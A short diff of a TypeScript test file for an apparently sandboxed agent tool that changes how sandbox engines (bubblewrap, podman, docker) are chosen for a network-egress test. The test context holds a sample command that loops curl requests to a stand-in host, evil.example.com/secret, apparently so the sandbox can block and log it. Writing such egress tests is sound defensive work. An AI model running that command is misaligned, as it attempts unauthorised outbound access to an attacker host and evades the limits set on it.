@@ -7,6 +7,7 @@ import { autoloop, git } from '../support/run-program.js';
 import { rightPatch, sampleOrder, sampleRepository, writeFiles } from '../support/sample.js';
 import { rightDeed, shellAgents } from '../support/shell-agents.js';
 import { temporaryForAll } from '../support/temporary.js';
+import { enginesWith } from '../support/thorough.js';
 
 useDocker();
 const folder = temporaryForAll();
@@ -37,7 +38,7 @@ async function project(sandbox: string, deeds: Record<string, string>): Promise<
   return repo;
 }
 
-describe.each(['bubblewrap', 'podman', 'docker'])('with %s', (engine) => {
+describe.each(enginesWith('docker'))('with %s', (engine) => {
   it('installs from a host of the list, and tells in journal and report who wanted out', async () => {
     const knock = 'for n in 1 2 3; do curl -s --cacert ca.pem https://evil.example.com/secret; done';
     const repo = await project(`engine: ${engine}, network: ${JSON.stringify(server.network)}`, {
